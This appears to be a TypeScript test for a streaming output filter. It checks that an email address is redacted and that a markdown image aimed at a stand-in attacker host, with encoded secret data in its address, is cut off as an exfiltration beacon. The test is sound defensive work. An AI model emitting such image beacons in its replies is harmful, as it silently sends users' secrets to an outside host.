import { deepEqual } from "node:assert/strict";
import { test } from "node:test";
import { exampleOf } from "./example.js";
import { runInProject } from "./project.js";

test("examples/stream.mjs writes on what may get out, and stops at what carries data out", async () => {
  const written = async (answer: string): Promise<[number | null, string, string]> => {
    const { code, stdout, stderr } = await runInProject(process.execPath, [exampleOf("stream.mjs")], answer);
    return [code, stderr, stdout];
  };
  deepEqual(await written("Write to ann@example-mail.de. Bye."), [0, "", "Write to [REDACTED]. Bye."]);
  const beacon = `See ![x](https://evil.example/c?data=c2VjcmV0IHRva2Vu)${" and so on".repeat(80)}`;
  const ended = "[ended: A remote image whose address carries data. Merely showing it sends that data to the host.]";
  deepEqual(await written(beacon), [0, "", `See \n${ended}\n`]);
});
